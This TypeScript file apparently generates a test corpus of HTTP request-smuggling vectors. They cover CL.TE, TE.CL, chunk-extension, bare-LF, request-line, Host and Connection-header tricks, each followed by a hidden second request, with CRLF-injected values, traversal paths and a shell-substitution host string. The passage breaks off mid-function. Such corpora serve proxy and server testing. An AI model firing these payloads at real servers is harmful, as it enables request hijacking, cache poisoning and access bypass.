/**
 * Request-smuggling vectors: for each place where two readers of HTTP/1.1 have been known to differ, every spelling of it,
 * followed by bytes that one reading takes for content and the other for a second request. Classes after the sections of
 * RFC 9112 and the published attacks (CL.TE, TE.CL, TE.TE, CL.0, chunk extensions, bare LF, hop-by-hop abuse, h2c).
 *
 * Text is one character a byte. `@a` .. `@e` stand for path segments that name vector and request, of one fixed length,
 * so that what arrives at an origin can be told apart: `v00042a` is the first request of vector 42, `b` one that follows.
 */

export interface Vector {
  readonly id: number;
  readonly class: string;
  /** What is odd, quoted as it stands in the bytes. */
  readonly name: string;
  readonly bytes: string;
}

type Draft = readonly [name: string, bytes: string];

/** Where a name goes; an "@" that a host name follows is user information. */
const PLACE = /@([a-e])(?!dge\b)/g;
const HOST = "Host: edge.test\r\n";
/** The request that must never be made out of content. */
const SECOND = `GET /@b HTTP/1.1\r\n${HOST}\r\n`;
const CHUNKED = "5\r\nhello\r\n0\r\n\r\n";

/** Length once the places are filled. */
const lengthOf = (bytes: string): number => bytes.replace(PLACE, "v00000a").length;
const hex = (bytes: string): string => lengthOf(bytes).toString(16);
const post = (fields: string, rest: string, version = "HTTP/1.1", method = "POST"): string =>
  `${method} /@a ${version}\r\n${HOST}${fields}\r\n${rest}`;
const quoted = (text: string): string => JSON.stringify(text);

const CODING_VALUES: readonly string[] = [
  "chunked",
  "Chunked",
  "CHUNKED",
  "chunked ",
  "chunked\t",
  "  chunked  ",
  "\x0bchunked",
  "chunked\x0b",
  "\x0cchunked",
  "chunked\x0c",
  ",chunked",
  ", chunked",
  "chunked,",
  ",,chunked,,",
  "chunked,chunked",
  "chunked, chunked",
  "chunked, identity",
  "identity, chunked",
  "identity",
  "xchunked",
  "chunkedx",
  "chunke",
  "x chunked",
  "chunked x",
  '"chunked"',
  "'chunked'",
  '"chunked',
  "chunked;q=1",
  "chunked;a=b",
  "chunked ;a",
  ";chunked",
  "chun\x00ked",
  "\x00chunked",
  "chunked\x00",
  "chun\rked",
  "\rchunked",
  "chunked\r",
  "chunked\rX: y",
  "chunked\nX: y",
  "\nchunked",
  "gzip, chunked",
  "gzip",
  "chunked, gzip",
  "deflate,chunked",
  "x-chunked",
  "",
  " ",
  "\t",
  "\xa0chunked",
  "chunked\xa0",
  "ch\xadunked",
  "\xffchunked",
  "chunked\xff",
  "\x85chunked",
  "chun\xe2\x84\xaaed",
  "chunked#",
  "chunked(comment)",
  "chunked\x7f",
  "\x08chunked",
  "trailers, chunked",
  "cow",
  "cow, chunked",
  "null",
  "chunked\\",
  "chunked/1",
  "*",
  "{chunked}",
  "[chunked]",
  "chunked:",
  ": chunked",
  "ﬀ".replace("ﬀ", "\xef\xac\x80chunked"),
  "\xef\xbb\xbfchunked",
];

/** Ways to write the name and what stands between it and the value; `NAME` is put in. */
const LINE_FORMS: readonly string[] = [
  "NAME:VALUE\r\n",
  "NAME:\tVALUE\r\n",
  "NAME: \t VALUE \t \r\n",
  "NAME : VALUE\r\n",
  "NAME\t: VALUE\r\n",
  "NAME\x0b: VALUE\r\n",
  "NAME\x00: VALUE\r\n",
  "NAME\r: VALUE\r\n",
  "NAME\n: VALUE\r\n",
  "NAME\r\n : VALUE\r\n",
  " NAME: VALUE\r\n",
  "\tNAME: VALUE\r\n",
  "\x0bNAME: VALUE\r\n",
  "\x00NAME: VALUE\r\n",
  "\rNAME: VALUE\r\n",
  "\xa0NAME: VALUE\r\n",
  "\xef\xbb\xbfNAME: VALUE\r\n",
  '"NAME": VALUE\r\n',
  "NAME;: VALUE\r\n",
  "(NAME): VALUE\r\n",
  "NAME= VALUE\r\n",
  "NAME VALUE\r\n",
  "NAME\r\n",
  ":NAME: VALUE\r\n",
  ": VALUE\r\n",
  "NAME:\r\n VALUE\r\n",
  "NAME:\r\n\tVALUE\r\n",
  "NAME:\r\n \r\n VALUE\r\n",
  "NAME:\n VALUE\r\n",
  "NAME:\nVALUE\r\n",
  "NAME:\rVALUE\r\n",
  "NAME:\x0bVALUE\r\n",
  "NAME:\x00VALUE\r\n",
  "NAME: VALUE\n",
  "NAME: VALUE\r",
  "NAME: VALUE\r\r\n",
  "NAME: VALUE\n\r\n",
  "NAME: VALUE \r \n",
  "X: y\rNAME: VALUE\r\n",
  "X: y\nNAME: VALUE\r\n",
  "X: y\r\n NAME: VALUE\r\n",
  "X: y\r\n\tNAME: VALUE\r\n",
  "X:\r\n NAME: VALUE\r\n",
  "X: y\x00NAME: VALUE\r\n",
  "X: y\x85NAME: VALUE\r\n",
  "X: y\xe2\x80\xa8NAME: VALUE\r\n",
  "X: y\x0bNAME: VALUE\r\n",
];

function lineForms(name: string, value: string): readonly string[] {
  const under = name.replaceAll("-", "_");
  const spellings = [
    name.toLowerCase(),
    name.toUpperCase(),
    under,
    name.replaceAll("-", " "),
    name.replaceAll("-", "\x00"),
    name.replaceAll("-", "\xad"),
    name.replaceAll("-", "\xe2\x80\x90"),
    name.replaceAll("-", ""),
    name.replaceAll("-", "--"),
    `${name}s`,
    `${name}-`,
    `X-${name}`,
    name.slice(0, -1),
    name.replaceAll("e", "\xc3\xa9"),
    name.replaceAll("-", "."),
  ].map((spelling) => `${spelling}: ${value}\r\n`);
  return [...LINE_FORMS.map((form) => form.replace("NAME", name).replace("VALUE", value)), ...spellings];
}

/** One transfer coding field, spelt oddly, with each pairing of length and content that makes two readings differ. */
function codingDrafts(label: string, field: string, methods: readonly string[]): Draft[] {
  const asTwo = `0\r\n\r\n${SECOND}`;
  const asOne = `${hex(SECOND)}\r\n${SECOND}\r\n0\r\n\r\n`;
  const drafts: Draft[] = [];
  for (const method of methods) {
    const add = (what: string, fields: string, rest: string, version?: string): void => {
      drafts.push([`${what} ${method} ${label}`, post(fields, rest, version, method)]);
    };
    add("CL.TE", `Content-Length: ${lengthOf(asTwo)}\r\n${field}`, asTwo);
    add("TE.CL", `${field}Content-Length: ${lengthOf(hex(SECOND)) + 2}\r\n`, asOne);
    add("CL.TE behind", `${field}Content-Length: ${lengthOf(asTwo)}\r\n`, asTwo);
    add("CL.0", `Content-Length: 0\r\n${field}`, SECOND);
    add("TE", field, `${CHUNKED}${SECOND}`);
    add("TE.0", field, SECOND);
  }
  return drafts;
}

function transferCoding(): Draft[] {
  const drafts: Draft[] = [];
  for (const value of CODING_VALUES)
    drafts.push(
      ...codingDrafts(`Transfer-Encoding ${quoted(value)}`, `Transfer-Encoding: ${value}\r\n`, [
        "POST",
        "GET",
      ]),
    );
  for (const line of lineForms("Transfer-Encoding", "chunked"))
    drafts.push(...codingDrafts(quoted(line), line, ["POST", "GET"]));
  const pairs = ["chunked", "identity", "cow", "", "gzip", "xchunked", ",", "\x0bchunked"];
  for (const one of pairs)
    for (const other of pairs) {
      if (one === "chunked" || other === "chunked")
        drafts.push(
          ...codingDrafts(
            `twice ${quoted(one)} ${quoted(other)}`,
            `Transfer-Encoding: ${one}\r\nTransfer-Encoding: ${other}\r\n`,
            ["POST"],
          ),
        );
    }
  // HTTP/1.0 knows no codings; what it says about persistence differs too (RFC 9112, section 6.1 and appendix C.2).
  for (const version of ["HTTP/1.0", "HTTP/1.2", "HTTP/0.9", "HTTP/2.0", "http/1.1"])
    for (const connection of ["", "Connection: keep-alive\r\n"])
      drafts.push(
        [
          `${version} TE ${connection}`,
          post(`${connection}Transfer-Encoding: chunked\r\n`, `${CHUNKED}${SECOND}`, version),
        ],
        [
          `${version} CL.TE ${connection}`,
          post(
            `${connection}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n`,
            `0\r\n\r\n${SECOND}`,
            version,
          ),
        ],
        [
          `${version} CL ${connection}`,
          post(`${connection}Content-Length: 5\r\n`, `hello${SECOND}`, version),
        ],
      );
  return drafts;
}

function contentLength(): Draft[] {
  const drafts: Draft[] = [];
  const size = lengthOf(SECOND);
  const spell = (n: number): readonly string[] => [
    `+${n}`,
    `-${n}`,
    `0${n}`,
    `00000000000000000000${n}`,
    `0x${n.toString(16)}`,
    `0b${n.toString(2)}`,
    `0o${n.toString(8)}`,
    `${n} `,
    `  ${n}`,
    `${n}\t`,
    `${n}, ${n}`,
    `${n},${n}`,
    `${n}, 0`,
    `0, ${n}`,
    `${n},`,
    `,${n}`,
    `${n};`,
    `${n};a=b`,
    `${n}.0`,
    `${n}.`,
    `.${n}`,
    `${n}e0`,
    `${n}E0`,
    `${n}\x00`,
    `\x00${n}`,
    `${n}\x0b`,
    `\x0b${n}`,
    `${n}\x0c`,
    `\xa0${n}`,
    `${n}\xa0`,
    `\x85${n}`,
    `${n}\r`,
    `\r${n}`,
    `${n}\r\n 0`,
    `\r\n ${n}`,
    `0\r\n ${n}`,
    `${n}\n 0`,
    `${n} ${n}`,
    `${n} 0`,
    `${n}0 `,
    `${n}a`,
    `a${n}`,
    `${n}#`,
    `${n}(c)`,
    `"${n}"`,
    `'${n}'`,
    `${n}_0`,
    `${n}'`,
    `${n}%20`,
    `${n}\x7f`,
    `${n}\xff`,
    `\xef\xbc\x95`,
    `\xd9\xa5`,
    `--${n}`,
    `${2 ** 32 + n}`,
    `${2 ** 31 + n}`,
    `${2n ** 64n + BigInt(n)}`,
    `${2n ** 63n + BigInt(n)}`,
    `${2 ** 53 + n}`,
    "99999999999999999999999999",
    "",
    " ",
    "-0",
    "+0",
    "0x0",
    "NaN",
    "Infinity",
    "null",
    "chunked",
  ];
  for (const method of ["POST", "GET", "DELETE", "HEAD"]) {
    for (const value of spell(size))
      drafts.push([
        `${method} over second ${quoted(value)}`,
        post(`Content-Length: ${value}\r\n`, SECOND, "HTTP/1.1", method),
      ]);
    for (const value of spell(5))
      drafts.push([
        `${method} before second ${quoted(value)}`,
        post(`Content-Length: ${value}\r\n`, `hello${SECOND}`, "HTTP/1.1", method),
      ]);
  }
  for (const line of lineForms("Content-Length", String(size)))
    for (const method of ["POST", "GET"]) {
      drafts.push([`${method} alone ${quoted(line)}`, post(line, SECOND, "HTTP/1.1", method)]);
      drafts.push([
        `${method} with 0 ${quoted(line)}`,
        post(`Content-Length: 0\r\n${line}`, SECOND, "HTTP/1.1", method),
      ]);
    }
  const values = ["0", "5", String(size), "", "+5", "05", "5, 5"];
  for (const one of values)
    for (const other of values)
      drafts.push([
        `twice ${quoted(one)} ${quoted(other)}`,
        post(`Content-Length: ${one}\r\nContent-Length: ${other}\r\n`, `hello${SECOND}`),
      ]);
  return drafts;
}

const CHUNK_SIZES: readonly string[] = [
  "5",
  "05",
  "00000000000000000000000000000005",
  "+5",
  "-5",
  "--5",
  "0x5",
  "0X5",
  "x5",
  "5x",
  "5h",
  "5.0",
  "5e0",
  "5,",
  "5,5",
  "5 ",
  " 5",
  "\t5",
  "5\t",
  "5 5",
  "\x0b5",
  "5\x0b",
  "\x005",
  "5\x00",
  "5\xa0",
  "\xa05",
  "5\r",
  "5\n",
  "\n5",
  "\r\n5",
  "\r5",
  "5\r\n\r",
  "5;",
  "5 ;",
  "5; ",
  "5;a",
  "5;a=b",
  "5; a = b",
  "5 ; a=b",
  '5;a="b"',
  '5;a="b',
  '5;a="\\"b"',
  '5;a="b;c"',
  '5;a="\r"',
  '5;a="\n"',
  '5;a="\r\n"',
  "5;a=b;c=d",
  "5;;",
  "5;=",
  "5;a=",
  "5;=b",
  "5;\x00",
  "5;a\x7f",
  "5;a\rb",
  "5;a\nb",
  "5;\n",
  "5;\r",
  "5;a\r\r",
  "5;\xff",
  "5;\x0b",
  `5;${"a".repeat(300)}`,
  `5;a="${"b".repeat(20_000)}"`,
  `5${";a=b".repeat(5_000)}`,
  "ffffffffffffffff5",
  "10000000000000005",
  "100000005",
  "8000000000000005",
  "7fffffffffffffff",
  "fffffffffffffffb",
  "80000005",
  "fffffffb",
  "20000000000005",
  "5g",
  "g",
  "",
  " ",
  "-0",
  "-1",
  "5_0",
  "\xef\xbc\x95",
  '"5"',
  "5'",
  "5\\",
  "5#",
  "5:5",
  "5/",
];

function chunks(): Draft[] {
  const drafts: Draft[] = [];
  const te = "Transfer-Encoding: chunked\r\n";
  const add = (name: string, content: string): void => {
    drafts.push([name, post(te, content)]);
  };
  for (const size of CHUNK_SIZES) {
    add(`size ${quoted(size.slice(0, 40))}`, `${size}\r\nhello\r\n0\r\n\r\n${SECOND}`);
    add(`size, bare LF ${quoted(size.slice(0, 40))}`, `${size}\nhello\r\n0\r\n\r\n${SECOND}`);
    add(`second chunk ${quoted(size.slice(0, 40))}`, `1\r\nx\r\n${size}\r\nhello\r\n0\r\n\r\n${SECOND}`);
    drafts.push([
      `GET size ${quoted(size.slice(0, 40))}`,
      post(te, `${size}\r\nhello\r\n0\r\n\r\n${SECOND}`, "HTTP/1.1", "GET"),
    ]);
  }
  // The extension hides a line end that one reader sees (CVE-2025 "chunk extension" class): 2 + the hidden request.
  for (const end of ["\n", "\r", "\n\r\n", "\r\r\n", "\x00\r\n", "\x0b\r\n", "\xe2\x80\xa8"])
    for (const extension of ["", ";", ";a", ";a=", ';a="', "; a", " ", "\t"])
      add(
        `hidden line end ${quoted(`${extension}${end}`)}`,
        `5${extension}${end}xx\r\n${(lengthOf(SECOND) + 9).toString(16)}\r\n0\r\n\r\n${SECOND}\r\n0\r\n\r\n`,
      );
  for (const end of [
    "",
    "\n",
    "\r",
    "\n\r",
    "\r\r\n",
    " \r\n",
    "\r \n",
    "xx",
    "x\r\n",
    "\x00\x00",
    "\r\n\r\n",
    "\t\r\n",
    "\x0b\n",
    "\r\n ",
    "0\r\n",
    "\n\n",
  ]) {
    add(`after data ${quoted(end)}`, `5\r\nhello${end}0\r\n\r\n${SECOND}`);
    add(`after data, long ${quoted(end)}`, `5\r\nhello${end}${hex(SECOND)}\r\n${SECOND}\r\n0\r\n\r\n`);
  }
  for (const last of [
    "00",
    "000000000000000000000000",
    "+0",
    "-0",
    "0x0",
    "0 ",
    " 0",
    "0\t",
    "0;",
    "0;a",
    "0;a=b",
    "0\x00",
    "0\x0b",
    "0\xa0",
    "0\r",
    "0;a\n",
    "0\n",
    "\n0",
    "0_",
    "0.",
    "10000000000000000",
    "",
    "O",
  ])
    for (const end of [
      "\r\n\r\n",
      "\n\r\n",
      "\r\n\n",
      "\n\n",
      "\r\r",
      "\r\n\r",
      "\r\n",
      "\n\r\n\r\n",
      "\r\n \r\n",
    ])
      add(`last ${quoted(last)} ${quoted(end)}`, `5\r\nhello\r\n${last}${end}${SECOND}`);
  for (const end of [
    "\n\r\n",
    "\r\n\n",
    "\n\n",
    "\r\r",
    "\r\n\r",
    "\r\n",
    "\r\n \r\n",
    "\r\n\t\r\n",
    "\r\n\0\r\n",
    "\r\n\r\r\n",
  ])
    add(`last "0" ${quoted(end)}`, `5\r\nhello\r\n0${end}${SECOND}`);
  const trailers = [
    "X-A: b\r\n",
    "Content-Length: 5\r\n",
    "Content-Length: 0\r\n",
    "Transfer-Encoding: chunked\r\n",
    "Transfer-Encoding: identity\r\n",
    "Host: evil.test\r\n",
    "Authorization: Basic eDp5\r\n",
    "Cookie: a=b\r\n",
    "X-Forwarded-For: 6.6.6.6\r\n",
    "Connection: close\r\n",
    "Connection: Host\r\n",
    "Trailer: X-A\r\n",
    "Expect: 100-continue\r\n",
    "Upgrade: websocket\r\n",
    "Cache-Control: no-store\r\n",
    "Isochrone-Peer: x\r\n",
    "Content_Length: 5\r\n",
    "Range: bytes=0-0\r\n",
    " X-A: b\r\n",
    "X-A : b\r\n",
    "X-A\r\n",
    ": b\r\n",
    "X-A: b\n",
    "X-A: b\r",
    "X-A: b\r\r\n",
    "X-A:\r\n b\r\n",
    "X-A: \x00\r\n",
    "X-A: b\x0b\r\n",
    "X\x00A: b\r\n",
    "X-A: b\rContent-Length: 5\r\n",
    "X-A: b\nContent-Length: 5\r\n",
    "GET /@c HTTP/1.1\r\n",
    `X-A: ${"b".repeat(20_000)}\r\n`,
    "X-A: b\r\n".repeat(500),
    "\n",
    "\r",
    "\0",
  ];
  for (const trailer of trailers)
    for (const announced of ["", "Trailer: X-A, Content-Length\r\n", "TE: trailers\r\nConnection: TE\r\n"])
      drafts.push([
        `trailer ${quoted(trailer.slice(0, 40))} ${announced.slice(0, 9)}`,
        post(`${te}${announced}`, `5\r\nhello\r\n0\r\n${trailer}\r\n${SECOND}`),
      ]);
  return drafts;
}

function lineEnds(): Draft[] {
  const ends = [
    "\n",
    "\r",
    "\r\r\n",
    "\n\r",
    "\n\r\n",
    "\r\n\n",
    " \r\n",
    "\t\r\n",
    "\x0b\r\n",
    "\x0c\r\n",
    "\0\r\n",
    "\r\0\n",
    "\r \n",
    "\x85",
    "\xe2\x80\xa8",
    "\\r\\n",
    "%0d%0a",
    "\r\n\r\n",
    "\r\n ",
    "\r\n\t",
    "\r\n\r\n\r\n",
  ];
  const drafts: Draft[] = [];
  const lines = ["POST /@a HTTP/1.1", "Host: edge.test", "Content-Length: 5", "X-A: b", ""];
  for (const [index, line] of lines.entries())
    for (const end of ends) {
      const head = lines.map((text, at) => `${text}${at === index ? end : "\r\n"}`).join("");
      drafts.push([`after ${quoted(line)}: ${quoted(end)}`, `${head}hello${SECOND}`]);
      const coded = head.replace("Content-Length: 5", "Transfer-Encoding: chunked");
      drafts.push([`chunked, after ${quoted(line)}: ${quoted(end)}`, `${coded}${CHUNKED}${SECOND}`]);
      drafts.push([
        `GET, after ${quoted(line)}: ${quoted(end)}`,
        `${head.replace("POST", "GET").replace("Content-Length: 5", "X-B: c")}${SECOND}`,
      ]);
    }
  for (const end of ends) {
    drafts.push([
      `everywhere ${quoted(end)}`,
      `${lines.map((text) => `${text}${end}`).join("")}hello${SECOND}`,
    ]);
    drafts.push([
      `everywhere, twice ${quoted(end)}`,
      `GET /@a HTTP/1.1${end}Host: edge.test${end}${end}GET /@b HTTP/1.1${end}Host: edge.test${end}${end}`,
    ]);
  }
  return drafts;
}

function requestLines(): Draft[] {
  const lines = [
    "GET  /@a HTTP/1.1",
    "GET /@a  HTTP/1.1",
    "GET\t/@a\tHTTP/1.1",
    "GET\t/@a HTTP/1.1",
    "GET /@a\tHTTP/1.1",
    "GET\x0b/@a\x0bHTTP/1.1",
    "GET\x0c/@a\x0cHTTP/1.1",
    "GET\r/@a\rHTTP/1.1",
    "GET\xa0/@a\xa0HTTP/1.1",
    " GET /@a HTTP/1.1",
    "\tGET /@a HTTP/1.1",
    "GET /@a HTTP/1.1 ",
    "GET /@a HTTP/1.1\t",
    "GET /@a HTTP/1.1 x",
    "GET /@a HTTP/1.1 HTTP/1.1",
    "GET /@a HTTP/1.1\rX: y",
    "GET /@a",
    "GET /@a ",
    "GET /@a HTTP",
    "GET /@a HTTP/",
    "GET /@a HTTP/1",
    "GET /@a HTTP/1.",
    "GET /@a HTTP/.1",
    "GET /@a HTTP/1.0",
    "GET /@a HTTP/1.2",
    "GET /@a HTTP/1.9",
    "GET /@a HTTP/1.10",
    "GET /@a HTTP/1.01",
    "GET /@a HTTP/01.1",
    "GET /@a HTTP/0.9",
    "GET /@a HTTP/2.0",
    "GET /@a HTTP/2",
    "GET /@a HTTP/3.0",
    "GET /@a HTTP/11.1",
    "GET /@a HTTP/1,1",
    "GET /@a HTTP/1.1.1",
    "GET /@a HTTP/-1.1",
    "GET /@a HTTP/+1.1",
    "GET /@a HTTP/1. 1",
    "GET /@a HTTP /1.1",
    "GET /@a http/1.1",
    "GET /@a Http/1.1",
    "GET /@a HTTPS/1.1",
    "GET /@a ICE/1.0",
    "GET /@a RTSP/1.0",
    "GET /@a XHTTP/1.1",
    "GET /@a HTTP/1.\xb2",
    "get /@a HTTP/1.1",
    "Get /@a HTTP/1.1",
    "G\x00ET /@a HTTP/1.1",
    "G:ET /@a HTTP/1.1",
    "GET: /@a HTTP/1.1",
    '"GET" /@a HTTP/1.1',
    "G(T /@a HTTP/1.1",
    "G\xc9T /@a HTTP/1.1",
    "/@a HTTP/1.1",
    "HTTP/1.1 200 OK",
    "HTTP/1.1 /@a GET",
    "SOURCE /@a HTTP/1.1",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "CONNECT edge.test:80 HTTP/1.1",
    "CONNECT /@a HTTP/1.1",
    "TRACE /@a HTTP/1.1",
    "TRACK /@a HTTP/1.1",
    "OPTIONS * HTTP/1.1",
    "GET * HTTP/1.1",
    "GET edge.test:80 HTTP/1.1",
    "GET edge.test/@a HTTP/1.1",
    "GET //edge.test/@a HTTP/1.1",
    "GET @a HTTP/1.1",
    "GET ?@a HTTP/1.1",
    "GET \\@a HTTP/1.1",
    "GET /@a#frag HTTP/1.1",
    "GET /#/@a HTTP/1.1",
    "GET /@a?a#b HTTP/1.1",
    "GET /@a%23 HTTP/1.1",
    "GET http://edge.test/@a HTTP/1.1",
    "GET http://other.test/@a HTTP/1.1",
    "GET HTTP://OTHER.TEST/@a HTTP/1.1",
    "GET https://edge.test/@a HTTP/1.1",
    "GET http://user@edge.test/@a HTTP/1.1",
    "GET http://user:pass@other.test/@a HTTP/1.1",
    "GET http://edge.test@other.test/@a HTTP/1.1",
    "GET http://edge.test:80/@a HTTP/1.1",
    "GET http://edge.test:x/@a HTTP/1.1",
    "GET http://edge.test:99999/@a HTTP/1.1",
    "GET http:///@a HTTP/1.1",
    "GET http:/@a HTTP/1.1",
    "GET http:@a HTTP/1.1",
    "GET http://[::1]/@a HTTP/1.1",
    "GET http://[::1/@a HTTP/1.1",
    "GET http://edge.test?@a HTTP/1.1",
    "GET http://edge.test\\@other.test/@a HTTP/1.1",
    "GET http://edge.test%2f@a HTTP/1.1",
    "GET http://edge.test#/@a HTTP/1.1",
    "GET ftp://edge.test/@a HTTP/1.1",
    "GET file:///@a HTTP/1.1",
    "GET javascript:@a HTTP/1.1",
    "GET /@a\x00 HTTP/1.1",
    "GET /@a\x7f HTTP/1.1",
    "GET /@a\xff HTTP/1.1",
    "GET /@a\xc3\xa9 HTTP/1.1",
    "GET /@a\xc0\xae\xc0\xae/ HTTP/1.1",
    "GET /@a/../../etc HTTP/1.1",
    "GET /@a/%2e%2e/%2e%2e HTTP/1.1",
    "GET /@a%00 HTTP/1.1",
    "GET /@a%0d%0aX:%20y HTTP/1.1",
    "GET /@a%0d%0a%0d%0aGET%20/@b%20HTTP/1.1 HTTP/1.1",
    "GET /@a%20HTTP/1.1%0d%0aHost:%20evil HTTP/1.1",
    "GET /@a%0aX:y HTTP/1.1",
    "GET /@a%zz HTTP/1.1",
    "GET /@a% HTTP/1.1",
    "GET /@a%u000d%u000a HTTP/1.1",
    "GET /@a\\r\\nX: y HTTP/1.1",
    "GET /@a\rX: y HTTP/1.1",
    "GET /@a\nX: y HTTP/1.1",
    "GET /@a HTTP/1.1\nX: y",
    "GET /@a\xe5\x98\x8a\xe5\x98\x8d HTTP/1.1",
    "GET /@a\xc4\x8d\xc4\x8a HTTP/1.1",
    'GET /@a"<>|^`{} HTTP/1.1',
    "GET /@a HTTP/1.1 GET /@b HTTP/1.1",
    `GET /@a?${"a".repeat(20_000)} HTTP/1.1`,
    `${"G".repeat(20_000)} /@a HTTP/1.1`,
    `GET /@a HTTP/1.${"1".repeat(5_000)}`,
  ];
  const drafts: Draft[] = [];
  for (const line of lines) {
    const name = quoted(line.slice(0, 60));
    drafts.push([name, `${line}\r\n${HOST}\r\n${SECOND}`]);
    drafts.push([
      `POST-like ${name}`,
      `${line.replace(/^GET/, "POST")}\r\n${HOST}Content-Length: 5\r\n\r\nhello${SECOND}`,
    ]);
    drafts.push([
      `chunked ${name}`,
      `${line.replace(/^GET/, "POST")}\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n${CHUNKED}${SECOND}`,
    ]);
  }
  for (const lead of [
    "\r\n",
    "\r\n\r\n",
    "\n",
    "\n\n",
    "\r",
    "\r\r\n",
    " \r\n",
    "\0",
    "\x16\x03\x01",
    "\r\n ",
    "x\r\n",
    "\r\n".repeat(50),
    "\xef\xbb\xbf",
  ]) {
    drafts.push([`lead ${quoted(lead.slice(0, 20))}`, `${lead}GET /@a HTTP/1.1\r\n${HOST}\r\n${SECOND}`]);
    drafts.push([
      `between ${quoted(lead.slice(0, 20))}`,
      `POST /@a HTTP/1.1\r\n${HOST}Content-Length: 5\r\n\r\nhello${lead}${SECOND}`,
    ]);
    drafts.push([
      `after GET ${quoted(lead.slice(0, 20))}`,
      `GET /@a HTTP/1.1\r\n${HOST}\r\n${lead}${SECOND}`,
    ]);
  }
  return drafts;
}

function hosts(): Draft[] {
  const drafts: Draft[] = [];
  const values = [
    "",
    " ",
    "edge.test:80",
    "edge.test:",
    "edge.test:0",
    "edge.test:99999",
    "edge.test:80x",
    "edge.test:-1",
    "edge.test:80:80",
    "edge.test, other.test",
    "edge.test,other.test",
    "edge.test other.test",
    "edge.test\tother.test",
    "edge.test@other.test",
    "user@edge.test",
    "user:pass@edge.test",
    "edge.test/path",
    "edge.test/@b",
    "edge.test?x",
    "edge.test#x",
    "edge.test\\x",
    "http://edge.test",
    "edge.test;x",
    "edge.test'x",
    'edge.test"x',
    "edge.test<x",
    "edge.test%00",
    "edge.test%2f",
    "edge.test\x00",
    "edge.test\x0b",
    "edge.test\x7f",
    "edge.test\xff",
    "edge.test\r\n other.test",
    "\r\n edge.test",
    "edge.test\rX: y",
    "edge.test\nX: y",
    "[::1]",
    "[::1",
    "::1",
    "[::1]x",
    "[::1]:80",
    "[fe80::1%25eth0]",
    "[v1.x]",
    "edge..test",
    ".edge.test",
    "edge.test.",
    "-",
    "*",
    "_edge.test",
    "EDGE.TEST",
    `${"a".repeat(300)}.test`,
    "127.0.0.1",
    "0x7f.1",
    "edge.test:00080",
    "xn--e1afmkfd",
    "(edge.test)",
    "{}",
    "$(x)",
    "|",
  ];
  for (const value of values) {
    drafts.push([
      `value ${quoted(value.slice(0, 40))}`,
      `GET /@a HTTP/1.1\r\nHost: ${value}\r\n\r\n${SECOND}`,
    ]);
    drafts.push([
      `absolute ${quoted(value.slice(0, 40))}`,
      `GET http://edge.test/@a HTTP/1.1\r\nHost: ${value}\r\n\r\n${SECOND}`,
    ]);
    drafts.push([
      `in absolute ${quoted(value.slice(0, 40))}`,
      `GET http://${value}/@a HTTP/1.1\r\n${HOST}\r\n${SECOND}`,
    ]);
    drafts.push([
      `second ${quoted(value.slice(0, 40))}`,
      `GET /@a HTTP/1.1\r\n${HOST}Host: ${value}\r\n\r\n${SECOND}`,
    ]);
  }
  for (const line of lineForms("Host", "other.test")) {
    drafts.push([`beside ${quoted(line)}`, `GET /@a HTTP/1.1\r\n${HOST}${line}\r\n${SECOND}`]);
    drafts.push([`alone ${quoted(line)}`, `GET /@a HTTP/1.1\r\n${line}\r\n${SECOND}`]);
    drafts.push([`before ${quoted(line)}`, `GET /@a HTTP/1.1\r\n${line}${HOST}\r\n${SECOND}`]);
  }
  drafts.push(["none", `GET /@a HTTP/1.1\r\n\r\n${SECOND}`]);
  drafts.push(["none, HTTP/1.0", `GET /@a HTTP/1.0\r\nConnection: keep-alive\r\n\r\n${SECOND}`]);
  return drafts;
}

/** Hop-by-hop abuse: Connection names fields that the origin, or the proxy itself, relies on. */
function connection(): Draft[] {
  const names = [
    "Host",
    "Content-Length",
    "Transfer-Encoding",
    "Cookie",
    "Authorization",
    "X-Forwarded-For",
    "X-Forwarded-Proto",
    "Via",
    "CDN-Loop",
    "Cache-Control",
    "Content-Type",
    "Expect",
    "Upgrade",
    "TE",
    "Trailer",
    "Connection",
    "Keep-Alive",
    "Proxy-Authorization",
    "Range",
    "Origin",
    "Isochrone-Peer",
    "X-Custom",
    "close",
    "keep-alive",
    "upgrade",
    "HTTP2-Settings",
  ];
  const spell = (name: string): readonly string[] => [
    name,
    name.toLowerCase(),
    `close, ${name}`,
    `keep-alive, ${name}`,
    `${name}, close`,
    `,${name},`,
    `${name} `,
    `${name};q=1`,
    `"${name}"`,
    `${name}\x0b`,
    `${name}\x00`,
    `x\r\n ${name}`,
    `${name}\r`,
    `${name}\nX-B: c`,
    `${name} ${name}`,
  ];
  const fields =
    "Cookie: a=b\r\nAuthorization: Basic eDp5\r\nX-Forwarded-For: 6.6.6.6\r\nX-Custom: 1\r\nVia: 1.1 x\r\n";
  const drafts: Draft[] = [];
  for (const name of names)
    for (const value of spell(name)) {
      drafts.push([
        `POST ${quoted(value)}`,
        post(`Connection: ${value}\r\n${fields}Content-Length: 5\r\n`, `hello${SECOND}`),
      ]);
      drafts.push([
        `chunked ${quoted(value)}`,
        post(`Connection: ${value}\r\n${fields}Transfer-Encoding: chunked\r\n`, `${CHUNKED}${SECOND}`),
      ]);
      drafts.push([
        `GET ${quoted(value)}`,
        post(`${fields}Connection: ${value}\r\n`, SECOND, "HTTP/1.1", "GET"),
      ]);
    }
  for (const line of lineForms("Connection", "Content-Length"))
    drafts.push([quoted(line), post(`${line}Content-Length: 5\r\n`, `hello${SECOND}`)]);
  for (const name of [
    "Proxy-Connection",
    "Keep-Alive",
    "TE",
    "Trailer",
    "Proxy-Authorization",
    "Proxy-Authenticate",
  ])
    for (const value of [
      "close",
      "Host",
      "Content-Length",
      "trailers",
      "timeout=5",
      "chunked",
      "trailers, deflate;q=0.5",
      "\x00",
    ])
      drafts.push([
        `${name} ${quoted(value)}`,
        post(`${name}: ${value}\r\nContent-Length: 5\r\n`, `hello${SECOND}`),
      ]);
  return drafts;
}

function expectAndUpgrade(): Draft[] {
  const drafts: Draft[] = [];
  for (const value of [
    "100-continue",
    "100-Continue",
    " 100-continue ",
    "100-continue, 100-continue",
    "100-continue, x",
    "x",
    "",
    "100",
    "100-continue;x",
    "100-continue\x00",
    "\x0b100-continue",
    "y 100-continue",
    "200-ok",
    '"100-continue"',
    "100-continue\r\n x",
  ])
    for (const [what, fields, rest] of [
      ["length", "Content-Length: 5\r\n", `hello${SECOND}`],
      ["chunked", "Transfer-Encoding: chunked\r\n", `${CHUNKED}${SECOND}`],
      ["nothing", "", SECOND],
